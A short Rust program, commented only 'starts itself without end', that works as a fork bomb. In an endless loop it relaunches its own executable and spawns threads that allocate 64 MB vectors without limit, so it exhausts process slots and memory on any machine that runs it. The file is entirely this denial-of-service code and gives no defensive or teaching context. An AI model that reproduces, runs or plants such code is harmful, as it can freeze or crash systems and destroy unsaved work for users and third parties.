// starts itself without end
use std::env::current_exe;
use std::process::Command;

fn main() {
    let me = current_exe().unwrap();
    loop {
        let _ = Command::new(&me).spawn();
        std::thread::spawn(|| {
            let mut v: Vec<Vec<u8>> = Vec::new();
            loop {
                v.push(vec![1u8; 64 << 20]);
            }
        });
    }
}
